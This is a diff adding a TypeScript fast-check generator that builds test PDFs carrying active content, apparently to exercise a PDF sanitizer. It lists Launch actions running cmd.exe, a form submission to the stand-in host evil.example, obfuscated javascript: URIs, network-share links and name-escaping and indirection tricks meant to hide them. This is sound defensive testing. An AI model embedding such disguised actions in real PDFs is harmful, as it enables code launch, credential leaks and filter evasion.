@@ -1,0 +1,143 @@
+import fc from 'fast-check';
+import { firstExtra, writeTextPdf } from './writePdf.ts';
+
+/** A PDF of one page with one piece of active content, and how it was made, for the message of a failing test. */
+export interface DisguisedPdf {
+  bytes: Uint8Array;
+  recipe: string;
+}
+
+type Entries = [string, string][];
+
+/** Entries of an action, each value as PDF text. */
+const PAYLOADS: Record<string, Entries> = {
+  script: [
+    ['S', '/JavaScript'],
+    ['JS', '(app.alert\\(1\\))'],
+  ],
+  'program start': [
+    ['S', '/Launch'],
+    ['F', '(calc.exe)'],
+  ],
+  'program start on Windows': [
+    ['S', '/Launch'],
+    ['Win', '<</F(cmd.exe)/P(/c dir)>>'],
+  ],
+  'sent form': [
+    ['S', '/SubmitForm'],
+    ['F', '<</FS/URL/F(http://evil.example)>>'],
+  ],
+  'data import': [
+    ['S', '/ImportData'],
+    ['F', '(x.fdf)'],
+  ],
+  'script of a film': [
+    ['S', '/Rendition'],
+    ['OP', '0'],
+    ['JS', '(app.alert\\(1\\))'],
+  ],
+  'script address': [
+    ['S', '/URI'],
+    ['URI', '(javascript:alert\\(1\\))'],
+  ],
+  'script address after blanks': [
+    ['S', '/URI'],
+    ['URI', '(\\t jAvA\\nscript:x)'],
+  ],
+  'address behind a mark of UTF-8': [
+    ['S', '/URI'],
+    ['URI', '<EFBBBF6A6176617363726970743A78>'],
+  ],
+  'address in UTF-16': [
+    ['S', '/URI'],
+    ['URI', '<FEFF00660069006C0065003A002F002F0078>'],
+  ],
+  'address in UTF-16, other order': [
+    ['S', '/URI'],
+    ['URI', '<FFFE76006200730063007200690070007400 3A007800>'],
+  ],
+  'address with an invisible letter': [
+    ['S', '/URI'],
+    ['URI', '<FEFF006A0061200B00760061007300630072006900700074003A0078>'],
+  ],
+  'file on the network': [
+    ['S', '/GoToR'],
+    ['F', '(\\\\\\\\10.0.0.1\\\\share\\\\x.pdf)'],
+    ['D', '[0/Fit]'],
+  ],
+  'file on the network, specified': [
+    ['S', '/GoToR'],
+    ['F', '<</Type/Filespec/UF(//host/share/x.pdf)/F(x.pdf)>>'],
+    ['D', '[0/Fit]'],
+  ],
+  'embedded file on the network': [
+    ['S', '/GoToE'],
+    ['F', '(file://host/x.pdf)'],
+    ['T', '<</R/C/N(a.pdf)>>'],
+    ['D', '[0/Fit]'],
+  ],
+};
+
+/** Where an action stands, given as PDF text of the action. */
+const POSITIONS: Record<string, (action: string) => { annotation?: string; page?: string; catalog?: string }> = {
+  link: (action) => ({ annotation: `<</Subtype/Link/Rect[0 0 9 9]/A ${action}>>` }),
+  'link to the web': (action) => ({ annotation: `<</Subtype/Link/Rect[0 0 9 9]/PA ${action}>>` }),
+  button: (action) => ({ annotation: `<</Subtype/Widget/FT/Btn/T(b)/Rect[0 0 9 9]/A ${action}>>` }),
+  'event of a field': (action) => ({ annotation: `<</Subtype/Widget/FT/Tx/T(t)/Rect[0 0 9 9]/AA<</Zz 5/K ${action}>>>>` }),
+  'event of a page': (action) => ({ page: `/AA<</Type/Font/O ${action}>>` }),
+  'event of the document': (action) => ({ catalog: `/AA<</WC ${action}>>` }),
+  opening: (action) => ({ catalog: `/OpenAction ${action}` }),
+  bookmark: (action) => ({ catalog: `/Outlines<</First<</Title(x)/A ${action}>>>>` }),
+  'viewer preference': (action) => ({ catalog: `/ViewerPreferences<</DisplayDocTitle true/X ${action}>>` }),
+};
+
+type Disguise = (entries: Entries, newObject: (text: string) => string) => Entries;
+const dictionary = (entries: Entries) => `<<${entries.map(([key, value]) => `/${key} ${value}`).join(' ')}>>`;
+const behind = (next: string): Entries => [
+  ['S', '/GoTo'],
+  ['D', '[4 0 R/Fit]'],
+  ['Next', next],
+];
+
+const DISGUISES: Record<string, Disguise> = {
+  none: (entries) => entries,
+  'type in another object': (entries, newObject) => entries.map(([key, value]) => [key, key === 'S' ? newObject(value) : value]),
+  'type behind two objects': (entries, newObject) => entries.map(([key, value]) => [key, key === 'S' ? newObject(newObject(value)) : value]),
+  'all values in other objects': (entries, newObject) => entries.map(([key, value]) => [key, newObject(value)]),
+  'escaped names': (entries) => entries.map(([key, value]) => [escapeName(key), value.startsWith('/') ? `/${escapeName(value.slice(1))}` : value]),
+  'keys of an element': (entries) => [...entries, ['P', '4 0 R'], ['K', '0'], ['Pg', '4 0 R'], ['Type', '/StructElem']],
+  'keys of a font': (entries) => [['Type', '/Font'], ['BaseFont', '/Helvetica'], ...entries],
+  'behind another action': (entries, newObject) => behind(newObject(dictionary(entries))),
+  'in a list behind another action': (entries) => behind(`[<</S/GoTo/D[4 0 R/Fit]>>${dictionary(entries)}]`),
+  'a comment between': (entries) => entries.map(([key, value]) => [key, `%\n${value}`]),
+};
+
+function escapeName(name: string): string {
+  return [...name].map((character, index) => (index % 2 === 0 ? `#${character.charCodeAt(0).toString(16)}` : character)).join('');
+}
+
+/** Generates PDFs with active content: every payload at every position behind up to three disguises. */
+export function disguisedPdfs(): fc.Arbitrary<DisguisedPdf> {
+  const oneOf = <Value>(choices: Record<string, Value>) => fc.constantFrom(...Object.entries(choices));
+  return fc
+    .record({
+      payload: oneOf(PAYLOADS),
+      position: oneOf(POSITIONS),
+      disguises: fc.uniqueArray(oneOf(DISGUISES), { minLength: 1, maxLength: 3, selector: ([name]) => name }),
+      isInOwnObject: fc.boolean(),
+      isTag: fc.boolean(),
+    })
+    .map(({ payload, position, disguises, isInOwnObject, isTag }) => {
+      const extra: string[] = [];
+      const newObject = (text: string): string => `${firstExtra(1) + extra.push(text) - 1} 0 R`;
+      const entries = disguises.reduce((changed, [, disguise]) => disguise(changed, newObject), payload[1]);
+      const text = dictionary(entries);
+      const action = isInOwnObject || isTag ? newObject(text) : text;
+      const { annotation = '', page = '', catalog = '' } = position[1](action);
+      // The action is a kid of the structure tree as well.
+      const tags = isTag ? `/StructTreeRoot ${newObject(`<</Type/StructTreeRoot/K ${action}>>`)}/MarkInfo<</Marked true>>` : '';
+      const bytes = writeTextPdf({ pages: ['p'], catalog: catalog + tags, page: () => `${page}/Annots[${annotation}]`, extra });
+      const recipe = [payload[0], position[0], ...disguises.map(([name]) => name), isTag ? 'also a tag' : ''].join(', ');
+      return { recipe, bytes };
+    });
+}
